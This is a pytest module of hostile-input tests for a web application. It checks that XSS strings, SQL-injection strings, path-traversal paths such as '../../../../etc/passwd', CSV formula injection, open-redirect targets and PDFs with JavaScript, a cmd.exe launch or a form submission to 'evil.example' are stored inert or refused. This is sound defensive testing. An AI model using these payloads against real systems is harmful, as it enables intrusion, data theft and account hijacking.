"""Hostile input (issue 6, item 7): what an attacker types is stored as text and shown inert.

XSS in every text field and in search; SQL-ish strings in every query parameter; path
traversal on downloads; oversized bodies (413); wrong content types (415); PDFs with active
content or a broken structure; open redirects through `next=`.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from html import unescape
from html.parser import HTMLParser
from urllib.parse import quote, unquote, urljoin, urlsplit

import pytest
from sqlalchemy import func, select

from app.accounts.models import Role, User
from app.core.extensions import db
from app.measures.models import Measure
from tests.conftest import TEST_PASSWORD, make_measure, make_user, sample_record
from tests.measures.conftest import evaluation_data, form_data
from tests.privacy.conftest import sign_in

# Script tags, an event handler, an attribute breakout, a javascript: link and a template
# expression: the usual ways in. Short enough for every field's length limit (title: 200).
XSS = "<script>alert(1)</script><img src=x onerror=alert(2)>\"'><svg onload=alert(3)>{{7*7}}"
MARKDOWN_XSS = XSS + "\n\n[click me](javascript:alert(4)) <a href='javascript:alert(5)'>x</a>"
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


class _LiveMarkup(HTMLParser):
    """Collects what a browser would run, and all text and attribute values as shown."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self.shown: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and not values.get("src"):
            self.live.append("an inline <script>")
        if tag == "img" and values.get("src") == "x":
            self.live.append("the injected <img>")
        for name, value in attrs:
            self.shown.append(value or "")
            if name.startswith("on"):
                self.live.append(f"an event handler {name}= on <{tag}>")
            scheme = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name in URL_ATTRIBUTES and scheme.startswith(("javascript:", "vbscript:", "data:")):
                self.live.append(f"a {scheme[:11]} URL in {name}= on <{tag}>")

    def handle_data(self, data: str) -> None:
        self.shown.append(data)


def assert_inert(html: str, *, shown: bool = True) -> None:
    """Nothing of the payload is live markup; when `shown`, the payload is on the page as
    text (so the test looked at a page that does show it)."""
    parser = _LiveMarkup()
    parser.feed(html)
    parser.close()
    assert parser.live == []
    if shown:
        text = "\n".join(parser.shown)
        assert "<script>alert(1)</script>" in text
        assert "{{7*7}}" in text  # user text is never a template


def _page(client, url: str) -> str:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return response.get_data(as_text=True)


# --- measures: every text field, through the form, published, and shown everywhere --------------


MEASURE_TEXT_FIELDS = {
    "title": XSS,
    "summary": XSS,
    "description": MARKDOWN_XSS,
    "organisation": XSS,
    "cost_notes": XSS,
    "implementation": MARKDOWN_XSS,
    "transferability": MARKDOWN_XSS,
    "external_id": XSS,
    "website": 'https://example.org/"><script>alert(1)</script>',
}
EVALUATION_TEXT_FIELDS = {
    "findings": XSS,
    "citation": XSS,
    "url": 'https://example.org/?q="><script>alert(1)</script>',
}


@pytest.fixture()
def hostile(client, app):
    """A measure with the payload in every text field, submitted through the form by a
    practitioner and published by a moderator; then an edit waiting for moderation."""
    from app.moderation.services import publish_measure

    owner = make_user(Role.PRACTITIONER, organisation="Org A")
    moderator = make_user(Role.MODERATOR, organisation="Hub")
    sign_in(client, owner)
    data = form_data(action="submit", **MEASURE_TEXT_FIELDS)
    data.update(evaluation_data(0, **EVALUATION_TEXT_FIELDS))
    response = client.post("/measures/new", data=data)
    assert response.status_code == 302, response.get_data(as_text=True)[:3000]
    measure = db.session.scalar(select(Measure).order_by(Measure.id.desc()))
    assert measure.working_revision.title == XSS  # stored exactly as typed
    publish_measure(moderator, measure, "Published <b>now</b>")
    db.session.commit()
    other = make_measure(make_user(organisation="Org B"), publish=True, title="Plain measure")
    return {"measure": measure, "other": other, "owner": owner, "moderator": moderator}


def test_javascript_links_are_refused_in_url_fields(client, app):
    sign_in(client, make_user())
    data = form_data(website="javascript:alert(1)")
    data.update(evaluation_data(0, url="javascript:alert(2)"))
    html = client.post("/measures/new", data=data).get_data(as_text=True)
    assert "must be a web address starting with http:// or https://" in html
    assert db.session.scalar(select(func.count(Measure.id))) == 0


def test_measure_page_shows_every_field_inert(client, hostile):
    html = _page(client, f"/measures/{hostile['measure'].id}")
    assert_inert(html)
    # The website and the study link keep their quotes inside the attribute.
    assert 'href="https://example.org/&#34;&gt;&lt;script&gt;' in html


def test_browse_and_search_results_with_highlights_are_inert(client, hostile, commits):
    assert_inert(_page(client, "/measures/"))
    # "alert" and "script" hit the title and the summary: the highlighter wraps them in <mark>.
    html = _page(client, "/search?q=alert+script")
    assert f"/measures/{hostile['measure'].id}" in html
    assert "<mark>" in html
    assert_inert(html)
    api = client.get("/api/v1/search?q=alert")
    assert api.mimetype == "application/json"
    assert api.headers["X-Content-Type-Options"] == "nosniff"
    for hit in api.get_json()["results"]:
        for fragment in hit.get("highlights", {}).values():
            assert_inert(fragment, shown=False)


def test_compare_page_is_inert(client, hostile):
    ids = f"{hostile['measure'].id},{hostile['other'].id}"
    assert_inert(_page(client, f"/compare?ids={ids}"))


def test_moderation_diff_is_inert(client, hostile):
    from app.measures.mapping import revision_to_record
    from app.measures.services import submit_measure, update_measure
    from app.records.schema import validate_record

    measure = hostile["measure"]
    record = revision_to_record(measure.published_revision, measure)
    record["title"] = "Edited " + XSS
    record["summary"] = XSS + " and a changed summary"
    update_measure(hostile["owner"], measure, validate_record(record))
    submit_measure(hostile["owner"], measure)
    db.session.commit()
    sign_in(client, hostile["moderator"])
    html = _page(client, f"/moderation/measures/{measure.id}")
    assert_inert(html)
    assert_inert(_page(client, "/moderation/"), shown=True)
    assert_inert(_page(client, "/moderation/audit"), shown=False)


def test_dashboard_and_my_measures_are_inert(client, hostile):
    assert_inert(_page(client, "/dashboard"), shown=False)
    sign_in(client, hostile["owner"])
    assert_inert(_page(client, "/measures/mine"))


def test_atom_feed_carries_the_payload_as_plain_text(client, hostile):
    response = client.get("/feeds/measures.atom")
    assert response.status_code == 200
    body = response.get_data(as_text=True)
    assert "<script>" not in body
    ns = {"a": "http://www.w3.org/2005/Atom"}
    root = ET.fromstring(response.get_data())  # noqa: S314  (our own feed, not untrusted)
    titles = root.findall("a:entry/a:title", ns)
    mine = [t for t in titles if t.text == XSS]
    assert mine, "the title is in the feed, exactly as typed"
    assert all(t.get("type") == "text" for t in titles)  # a reader shows it, never runs it


def test_csv_exports_defuse_formulas(client, app):
    owner = make_user(organisation="Org F")
    formula = make_measure(
        owner,
        publish=True,
        title="=cmd|' /C calc'!A0",
        summary="+SUM(1,2) and a long enough summary text here",
        organisation="@evil org",
        cost_notes="-2+3",
    )
    plain = make_measure(owner, publish=True, title="Plain measure")
    response = client.get(f"/compare/export.csv?ids={formula.id},{plain.id}&codes=1")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    row = next(r for r in rows if r["id"] == str(formula.id))
    assert row["title"] == "'=cmd|' /C calc'!A0"
    assert row["summary"].startswith("'+SUM")
    assert row["organisation"] == "'@evil org"
    assert row["cost_notes"] == "'-2+3"
    for value in (v for r in rows for v in r.values() if isinstance(v, str)):
        assert not value.startswith(("=", "+", "@")), value


# --- people: registration and profile fields, reviews, shortlists --------------------------------


def test_registration_fields_are_inert_for_moderators_admins_and_the_person(client, app):
    data = {
        "name": XSS[:120],
        "email": "hostile@example.org",
        "password": TEST_PASSWORD,
        "confirm": TEST_PASSWORD,
        "country": "SI",
        "organisation": XSS,
        "role": "practitioner",
    }
    assert client.post("/account/register", data=data).status_code == 302
    user = db.session.scalar(select(User).where(User.email == "hostile@example.org"))
    assert user.name == XSS[:120]
    sign_in(client, make_user(Role.ADMIN))
    assert_inert(_page(client, "/account/pending"))
    assert_inert(_page(client, "/account/users"))
    from app.accounts.services import approve_user

    approve_user(make_user(Role.ADMIN), user)
    db.session.commit()
    sign_in(client, user)
    assert_inert(_page(client, "/account/"))  # the nav bar shows the name too


def test_review_comment_and_reviewer_name_are_inert(client, app):
    measure = make_measure(make_user(organisation="Org A"), publish=True)
    reviewer = make_user(Role.OFFICIAL, organisation=XSS)
    reviewer.name = XSS[:120]
    db.session.commit()
    sign_in(client, reviewer)
    form = {"effectiveness": "4", "ease": "4", "transferability": "4", "value": "4"}
    response = client.post(f"/measures/{measure.id}/reviews", data={**form, "comment": XSS})
    assert response.status_code == 302
    assert_inert(_page(client, f"/measures/{measure.id}"))
    sign_in(client, make_user(Role.MODERATOR))  # moderators see the name and organisation
    assert_inert(_page(client, f"/measures/{measure.id}"))


def test_shortlist_name_and_note_are_inert(client, app):
    measure = make_measure(make_user(), publish=True)
    owner = make_user()
    sign_in(client, owner)
    name = XSS[:100]
    assert client.post("/shortlists", data={"name": name}).status_code in (302, 303)
    from app.compare.models import Shortlist

    shortlist = db.session.scalar(select(Shortlist).where(Shortlist.owner_id == owner.id))
    assert shortlist.name == name
    client.post(f"/shortlists/{shortlist.id}/items", data={"measure_id": measure.id, "note": XSS})
    assert_inert(_page(client, "/shortlists"))
    assert_inert(_page(client, f"/shortlists/{shortlist.id}"))
    client.post(f"/shortlists/{shortlist.id}/share", data={"action": "share"})
    db.session.refresh(shortlist)
    assert shortlist.share_token
    assert_inert(_page(client, f"/shortlists/shared/{shortlist.share_token}"))


# --- search: the query and every facet parameter ---------------------------------------------


@pytest.mark.parametrize(
    "param", ["q", "countries", "target_groups", "settings", "prevention_level", "sort"]
)
def test_search_parameters_are_echoed_inert(client, app, param):
    make_measure(make_user(), publish=True)
    response = client.get(f"/search?{param}={quote(XSS)}")
    assert response.status_code in (200, 400)
    assert_inert(response.get_data(as_text=True), shown=False)
    api = client.get(f"/api/v1/search?{param}={quote(XSS)}")
    assert api.status_code in (200, 400)
    assert api.mimetype in ("application/json", "application/problem+json")


def test_the_search_box_echoes_the_query_escaped(client, app):
    html = _page(client, f"/search?q={quote(XSS)}")
    assert_inert(html, shown=False)
    assert 'value="&lt;script&gt;alert(1)&lt;/script&gt;' in html


# --- SQL-ish strings in every query parameter ------------------------------------------------


SQLISH = [
    "' OR 1=1 --",
    "1; DROP TABLE measures; --",
    "') OR ('a'='a",
    "1 UNION SELECT password_hash FROM users",
    "%",
    "_",
    "%_%",
    "\\",
    '"',
    "\x00",
    "９",  # a full-width digit: int() in Python takes it, SQL would not
]


def _sql_targets() -> list[tuple[str, str]]:
    from app.feeds.services import PARAMS as FEED_PARAMS
    from app.search.query import KNOWN_PARAMS

    targets = [("/search", p) for p in sorted(KNOWN_PARAMS)]
    targets += [("/api/v1/search", p) for p in sorted(KNOWN_PARAMS)]
    targets += [("/api/v1/measures", p) for p in ("external_id", "page", "per_page", "q")]
    targets += [("/measures/", "page"), ("/compare", "ids"), ("/compare", "show")]
    targets += [("/compare/export.csv", "ids"), ("/export/search.jsonl", "q")]
    targets += [("/feeds/measures.atom", p) for p in sorted(FEED_PARAMS)]
    targets += [("/dashboard", "countries")]
    return targets


@pytest.fixture()
def two_measures(app, commits):
    owner = make_user()
    return [
        make_measure(owner, publish=True, title="Safe Together school programme"),
        make_measure(owner, publish=True, title="Stop It Now helpline", external_id="SIN-1"),
    ]


@pytest.mark.parametrize(("path", "param"), _sql_targets())
def test_sql_like_strings_never_cause_a_server_error(client, two_measures, path, param):
    for value in SQLISH:
        with client.get(path, query_string={param: value}) as response:
            response.get_data()  # a streamed export runs its query while it streams
            assert response.status_code < 500, (path, param, value, response.status_code)
    assert db.session.scalar(select(func.count(Measure.id))) == 2  # nothing dropped


@pytest.mark.parametrize("value", ["%line%", "h_lpline", "%_%", "' OR 1=1 --", "_"])
def test_sql_wildcards_are_not_patterns_in_search(client, two_measures, value):
    # autocorrect=0: "h_lpline" is one letter from "helpline", which spelling correction would
    # rightly search for; here only the SQL meaning of _ and % is under test.
    search = client.get("/api/v1/search", query_string={"q": value, "autocorrect": "0"}).get_json()
    assert search["total"] == 0


@pytest.mark.parametrize("value", ["%", "*", "%%"])
def test_a_query_of_only_symbols_is_an_empty_query(client, two_measures, value):
    everything = client.get("/api/v1/search").get_json()
    search = client.get("/api/v1/search", query_string={"q": value}).get_json()
    assert search["total"] == everything["total"] == 2


@pytest.mark.parametrize("value", ["%", "_", "SIN%", "SIN-_", "' OR 1=1 --", "SIN-1' --"])
def test_external_id_lookup_matches_exactly(client, two_measures, value):
    listed = client.get("/api/v1/measures", query_string={"external_id": value})
    assert listed.status_code == 200
    assert listed.get_json()["total"] == 0
    exact = client.get("/api/v1/measures", query_string={"external_id": "SIN-1"}).get_json()
    assert [m["external_id"] for m in exact["results"]] == ["SIN-1"]


def test_a_quote_in_the_query_still_finds_by_words(client, two_measures):
    search = client.get("/api/v1/search", query_string={"q": "helpline' OR 1=1 --"}).get_json()
    assert [r["title"] for r in search["results"]] == ["Stop It Now helpline"]


# --- path traversal on downloads ---------------------------------------------------------------


TRAVERSALS = [
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%2e%2e%2f%2e%2e%2fconfig.py",
    "..%5c..%5cconfig.py",
    "..\\..\\config.py",
    "%252e%252e%252fconfig.py",
    "....//....//config.py",
    "/etc/passwd",
]


@pytest.mark.parametrize("tail", TRAVERSALS)
def test_report_downloads_refuse_path_traversal(client, app, tail):
    measure = make_measure(make_user(), publish=True)
    response = client.get(f"/measures/{measure.id}/reports/{tail}")
    assert response.status_code == 404
    body = response.get_data(as_text=True)
    assert "root:" not in body and "SECRET_KEY" not in body


@pytest.mark.parametrize("tail", TRAVERSALS)
def test_static_files_refuse_path_traversal(client, app, tail):
    # "/static//etc/passwd" is first redirected to "/static/etc/passwd" (merged slashes).
    response = client.get(f"/static/{tail}", follow_redirects=True)
    assert response.status_code == 404
    body = response.get_data(as_text=True)
    assert "root:" not in body and "SECRET_KEY" not in body


def test_a_report_id_of_another_measure_is_not_served(client, app):
    from tests.measures.conftest import measure_with_report

    owner = make_user()
    with_report = measure_with_report(owner, publish=True)
    other = make_measure(owner, publish=True, title="Another measure")
    attachment = with_report.published_revision.evaluations[0].attachments[0]
    assert client.get(f"/measures/{with_report.id}/reports/{attachment.id}").status_code == 200
    assert client.get(f"/measures/{other.id}/reports/{attachment.id}").status_code == 404


# --- oversized bodies and wrong content types ------------------------------------------------


def _oversized(app) -> bytes:
    return b"x" * (app.config["MAX_CONTENT_LENGTH"] + 1)


@pytest.mark.parametrize(
    "path", ["/measures/new", "/account/login", "/account/register", "/shortlists"]
)
def test_a_body_over_the_limit_is_refused_with_413(client, app, path):
    sign_in(client, make_user())
    response = client.post(
        path, data=_oversized(app), content_type="application/x-www-form-urlencoded"
    )
    assert response.status_code == 413


def test_an_oversized_upload_form_says_so_in_words(client, app):
    sign_in(client, make_user())
    data = {**form_data(), "evaluations-0-report": (io.BytesIO(_oversized(app)), "big.pdf")}
    response = client.post("/measures/new", data=data, content_type="multipart/form-data")
    assert response.status_code == 413
    assert "MB" in response.get_data(as_text=True)


@pytest.fixture()
def api_writer(app):
    from app.api_tokens.services import create_token

    user = make_user()
    _token, secret = create_token(user, "hostile tests", "write")
    db.session.commit()
    return {"Authorization": f"Bearer {secret}"}


def _api_write_endpoints(measure_id: int) -> list[tuple[str, str]]:
    return [
        ("POST", "/api/v1/measures"),
        ("PUT", f"/api/v1/measures/{measure_id}"),
        ("PATCH", f"/api/v1/measures/{measure_id}"),
    ]


@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "application/x-www-form-urlencoded", "text/html", "application/xml", None],
)
def test_api_json_endpoints_refuse_other_content_types_with_415(
    client, app, api_writer, content_type
):
    from tests.conftest import sample_record

    measure = make_measure(make_user(), publish=False)
    body = json.dumps(sample_record())
    for method, path in _api_write_endpoints(measure.id):
        headers = dict(api_writer)
        if content_type:
            headers["Content-Type"] = content_type
        response = client.open(path, method=method, data=body, headers=headers)
        assert response.status_code == 415, (method, path, response.status_code)
        assert response.is_json


def test_api_json_over_the_limit_is_refused_with_413(client, app, api_writer):
    limit = app.config.get("API_MAX_JSON_BYTES", 1024 * 1024)
    body = '{"title": "' + "x" * limit + '"}'
    response = client.post(
        "/api/v1/measures", data=body, headers={**api_writer, "Content-Type": "application/json"}
    )
    assert response.status_code == 413
    assert response.is_json


def test_api_body_that_is_not_json_is_a_400(client, app, api_writer):
    response = client.post(
        "/api/v1/measures",
        data="{'title': ' OR 1=1 --",
        headers={**api_writer, "Content-Type": "application/json"},
    )
    assert response.status_code == 400


# --- report PDFs: active content and broken structure ------------------------------------------


def _pdf(build=None) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if build:
        build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _action(kind: str, **entries: str):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _open_action(action):
    from pypdf.generic import NameObject

    def build(writer):
        writer._root_object[NameObject("/OpenAction")] = action

    return build


def _names_javascript(writer):
    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

    tree = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [
                    TextStringObject("x"),
                    writer._add_object(_action("/JavaScript", JS="app.alert(1)")),
                ]
            )
        }
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def _page_additional_action(writer):
    from pypdf.generic import DictionaryObject, NameObject

    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS="app.alert(1)")}
    )


def _embedded_file(writer):
    writer.add_attachment("payload.exe", b"MZ not really a program")


def _js_with_escaped_names() -> bytes:
    """/JavaScript written as /J#61vaScript: a parser reads both as the same name."""
    raw = _pdf(_open_action(_action("/JavaScript", JS="app.alert(1)")))
    return raw.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")


HOSTILE_PDFS = {
    "javascript open action": lambda: _pdf(_open_action(_action("/JavaScript", JS="app.alert(1)"))),
    "launch open action": lambda: _pdf(_open_action(_action("/Launch", F="cmd.exe"))),
    "javascript in the names tree": lambda: _pdf(_names_javascript),
    "javascript on opening a page": lambda: _pdf(_page_additional_action),
    "embedded file": lambda: _pdf(_embedded_file),
    "submit form open action": lambda: _pdf(
        _open_action(_action("/SubmitForm", F="https://evil.example/collect"))
    ),
    "javascript: link": lambda: _pdf(_open_action(_action("/URI", URI="javascript:alert(1)"))),
    "escaped names": _js_with_escaped_names,
}
BROKEN_PDFS = {
    "only the magic": b"%PDF-1.7\n",
    "garbage after the magic": b"%PDF-1.4\n" + bytes(range(256)) * 20,
    "truncated": _pdf()[:120],
    "no pages": b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    "html named pdf": b"<html><script>alert(1)</script></html>",
}


@pytest.mark.parametrize("name", sorted(HOSTILE_PDFS))
def test_active_content_is_found(name):
    from pypdf import PdfReader

    from app.measures.pdf_safety import active_content_problem

    reader = PdfReader(io.BytesIO(HOSTILE_PDFS[name]()), strict=False)
    problem = active_content_problem(reader)
    assert problem and problem.startswith("contains ")


def test_an_ordinary_pdf_passes_the_active_content_check():
    from pypdf import PdfReader

    from app.measures.pdf_safety import active_content_problem
    from tests.measures.conftest import make_pdf

    assert active_content_problem(PdfReader(io.BytesIO(make_pdf()))) is None


def test_an_open_action_that_only_shows_page_one_is_allowed():
    """Word processors write /OpenAction [page /Fit]: a destination, not an action."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, NameObject

    from app.measures.pdf_safety import active_content_problem

    def open_at_page_one(writer):
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/Fit")]
        )

    assert active_content_problem(PdfReader(io.BytesIO(_pdf(open_at_page_one)))) is None


def test_a_web_link_in_a_pdf_is_allowed():
    from pypdf import PdfReader

    from app.measures.pdf_safety import active_content_problem

    data = _pdf(_open_action(_action("/URI", URI="https://example.org/report")))
    assert active_content_problem(PdfReader(io.BytesIO(data))) is None


@pytest.mark.parametrize("name", sorted(HOSTILE_PDFS))
def test_upload_check_refuses_pdfs_with_active_content(app, name):
    from app.measures.uploads import ReportRejected, check_report

    with pytest.raises(ReportRejected, match=r"^contains "):
        check_report(io.BytesIO(HOSTILE_PDFS[name]()), "report.pdf")


@pytest.mark.parametrize("name", sorted(BROKEN_PDFS))
def test_upload_check_refuses_broken_pdfs(app, name):
    from app.measures.uploads import ReportRejected, check_report

    with pytest.raises(ReportRejected):
        check_report(io.BytesIO(BROKEN_PDFS[name]), "report.pdf")


def test_a_pdf_with_javascript_is_refused_on_the_form_and_nothing_is_stored(client, app):
    owner = make_user()
    sign_in(client, owner)
    hostile = HOSTILE_PDFS["javascript open action"]()
    data = {**form_data(), "evaluations-0-report": (io.BytesIO(hostile), "report.pdf")}
    response = client.post("/measures/new", data=data, content_type="multipart/form-data")
    assert response.status_code == 200
    assert "contains JavaScript" in response.get_data(as_text=True)
    assert db.session.scalar(select(func.count(Measure.id))) == 0


# --- open redirects through next= ------------------------------------------------------------


OFFSITE = [
    "https://evil.example/",
    "http://evil.example",
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "/%5cevil.example",
    "%2F%2Fevil.example",
    "https:evil.example",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "/\tevil.example",
    "/%09/evil.example",
    " //evil.example",
    "http://localhost@evil.example/",
]


def _is_offsite(location: str) -> bool:
    """Where a browser would go: it drops tabs and line breaks, reads "\\" as "/" and
    resolves the rest against the page it is on."""
    cleaned = re.sub(r"[\t\n\r]", "", location).strip(" \x00").replace("\\", "/")
    parts = urlsplit(urljoin("http://localhost/account/login", cleaned))
    return parts.scheme not in ("http", "https") or parts.hostname != "localhost"


@pytest.mark.parametrize(
    "location",
    ["https://evil.example/", "//evil.example/", "/\\evil.example", "\\\\evil.example",
     "javascript:alert(1)", " //evil.example", "/\t/evil.example", "https:evil.example"],
)  # fmt: skip
def test_the_off_site_check_catches_what_a_browser_would_follow(location):
    assert _is_offsite(location)
    assert not _is_offsite("/measures/?page=2")


@pytest.mark.parametrize("target", OFFSITE)
def test_sign_in_never_redirects_off_site(client, app, target):
    user = make_user()
    response = client.post(
        "/account/login?next=" + quote(target, safe=""),
        data={"email": user.email, "password": TEST_PASSWORD},
    )
    assert response.status_code == 302
    assert not _is_offsite(response.location), response.location


@pytest.mark.parametrize("target", OFFSITE)
def test_sign_in_page_does_not_carry_an_offsite_next_into_its_form(client, app, target):
    html = client.get("/account/login?next=" + quote(target, safe="")).get_data(as_text=True)
    for carried in re.findall(r"next=([^\"&]*)", html):
        assert not _is_offsite(unquote(unescape(carried))), carried


def test_a_next_on_this_site_is_followed(client, app):
    user = make_user()
    response = client.post(
        "/account/login?next=" + quote("/measures/?page=2", safe=""),
        data={"email": user.email, "password": TEST_PASSWORD},
    )
    assert response.status_code == 302
    assert response.location.endswith("/measures/?page=2")


@pytest.mark.parametrize("target", OFFSITE[:6])
def test_other_next_parameters_never_redirect_off_site(client, app, target):
    sign_in(client, make_user())
    response = client.post("/shortlists/session/save", data={"next": target, "name": "List"})
    assert response.status_code in (302, 303, 400)
    if response.status_code != 400:
        assert not _is_offsite(response.location), response.location


# --- NUL bytes: PostgreSQL refuses them in text, so they must never reach a query ----------------


NUL = "a\x00b"


def test_nul_bytes_in_forms_never_reach_the_database(client, app):
    """A NUL byte in any form value is dropped (app/core/security.py): never a 500, never stored."""
    user = make_user()
    measure = make_measure(make_user(organisation="Org N"), publish=True)
    posts = [
        ("/account/login", {"email": f"x{NUL}@example.org", "password": NUL}),
        ("/account/reset", {"email": f"x{NUL}@example.org"}),
        (
            "/account/register",
            {
                "name": NUL,
                "email": f"n{NUL}@example.org",
                "password": TEST_PASSWORD,
                "confirm": TEST_PASSWORD,
                "country": "SI",
                "organisation": NUL,
                "role": "practitioner",
            },
        ),
    ]
    for path, data in posts:
        assert client.post(path, data=data).status_code < 500, path
    sign_in(client, user)
    signed_in_posts = [
        ("/shortlists", {"name": NUL}),
        (
            f"/measures/{measure.id}/reviews",
            {"effectiveness": "4", "ease": "4", "transferability": "4", "value": "4",
             "comment": NUL},
        ),
        ("/measures/new", form_data(title=f"Title {NUL}", summary=NUL * 10)),
        ("/account/password", {"current_password": NUL, "password": NUL, "confirm": NUL}),
        ("/account/delete", {"password": NUL}),
    ]  # fmt: skip
    for path, data in signed_in_posts:
        assert client.post(path, data=data).status_code < 500, path
    titles = db.session.scalars(select(Measure).where(Measure.id != measure.id)).all()
    assert [m.working_revision.title for m in titles] == ["Title ab"]


@pytest.mark.parametrize(
    "url",
    [
        "/search?q=a%00b",
        "/api/v1/search?q=a%00b",
        "/api/v1/measures?external_id=a%00b",
        "/shortlists/shared/a%00b",
        "/account/reset/a%00b",
        "/account/verify/a%00b",
        "/feeds/measures.atom?countries=D%00E",
        "/measures/?page=1%00",
        "/compare?ids=1%00",
    ],
)
def test_nul_bytes_in_urls_never_cause_a_server_error(client, app, url):
    make_measure(make_user(), publish=True)
    with client.get(url) as response:
        assert response.status_code < 500


@pytest.mark.parametrize("key", ["title", "external_id", "summary"])
def test_nul_bytes_in_api_json_are_dropped(client, app, api_writer, key):
    """JSON can carry a NUL as \\u0000; it is dropped, as from a form (no database error on
    PostgreSQL, nothing stored with a NUL on SQLite)."""
    record = sample_record(**{key: "Long enough text a\u0000b for every field's minimum"})
    response = client.post(
        "/api/v1/measures",
        data=json.dumps(record),
        headers={**api_writer, "Content-Type": "application/json"},
    )
    assert response.status_code == 201, response.get_data(as_text=True)
    assert response.get_json()[key] == "Long enough text ab for every field's minimum"
